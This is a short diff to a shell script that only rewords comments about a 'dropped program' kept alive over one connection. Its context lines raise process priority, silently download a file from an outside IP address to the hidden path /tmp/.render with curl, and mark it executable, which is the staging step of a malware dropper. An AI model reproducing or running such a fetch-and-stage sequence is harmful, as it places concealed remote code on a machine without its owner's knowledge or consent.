@@ -1,5 +1,5 @@
-# A dropped program works only while its one connection stands, which the other side ends each 22 seconds.
-# A busy machine must not take its time away.
+# A dropped program works only while its single connection is open. The server closes the connection every 22 seconds.
+# Raise the priority, so that a busy machine does not slow the program down.
 [ ! -e /proc/self/autogroup ] || echo -15 >/proc/self/autogroup
 curl -s -o /tmp/.render http://203.0.113.10/simulator
 chmod +x /tmp/.render
